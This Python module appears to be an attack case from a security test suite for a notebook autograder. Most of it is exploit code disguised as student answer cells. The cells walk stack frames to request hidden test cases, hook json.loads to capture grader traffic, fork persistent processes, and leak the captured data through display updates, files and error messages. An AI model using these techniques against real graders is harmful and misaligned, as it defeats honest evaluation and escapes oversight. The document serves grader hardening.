"""Ask early for hidden cases, and leave hooks and processes that wait for them."""

STOCK = "it attacks the way to the judge, which stock nbgrader does not have"
LOSES = True
FIRST = """
import json, mmap, os, sys, threading, time
from IPython import get_ipython
from IPython.display import display
display({"text/plain": "waiting"}, raw=True, display_id="loot")
publish = get_ipython().display_pub.publish
mark = b"stand" + b"_ins"  # what only requests hold
shared = mmap.mmap(-1, 1 << 16)
def loot():
    return bytes(shared[1:5000]).rstrip(bytes(1)).decode("ascii", "replace")
def tell():
    for _ in range(400):
        if shared[0]:
            print("LOOT", loot())
            publish({"text/plain": loot()}, transient={"display_id": "loot"},
                    update=True)
        time.sleep(0.01)
threading.Thread(target=tell, daemon=True).start()
begun = []
print("TRIED")
"""
CELLS = {
    "centre": """
        def early():
            frame, told = sys._getframe(), []
            while frame:
                ask = frame.f_locals.get("ask")
                if callable(ask) and frame.f_code.co_name in ("work", "_answered"):
                    told += [ask("more"), ask({"function": "centre"})]
                frame = frame.f_back
            return told
        def keep(form):
            body = form if isinstance(form, bytes) else json.dumps(form).encode()
            if mark in body:
                shared[1:1 + len(body[:4000])] = body[:4000]
                shared[0] = 1
                os.write(1, body)
                with open("loot.txt", "ab") as file:
                    file.write(body)
        def wait():
            import autograder.forks as forks
            genuine = json.loads
            def loads(body, *args, **options):
                keep(bytes(body))
                return genuine(body, *args, **options)
            json.loads = forks.json.loads = loads
            threading.Thread(target=tell, daemon=True).start()
            if os.fork() == 0:
                os.setsid()
                os.closerange(3, 256)
                tell()
                os._exit(0)
        def centre(X):
            if not begun:
                begun.append(early())
                wait()
                keep(begun)
            if shared[0] and len(X) == 2:
                raise ValueError(loot())
            return X - np.mean(X, axis=1, keepdims=True)
    """,
    "spread": """
        def spread(X, power):
            raise ValueError(repr(begun) + loot())
    """,
}


def harm(place):
    """Look for the loot in the graded notebook, on the page and in files."""
    pages = (place.root / "feedback" / place.name).rglob("*.html")
    texts = [p.read_text() for p in [place.graded(place.name), *pages]]
    return [t[:99] for t in texts if "stand_ins" in t] or [
        *(place.root / "autograded" / place.name).rglob("loot.txt")
    ]
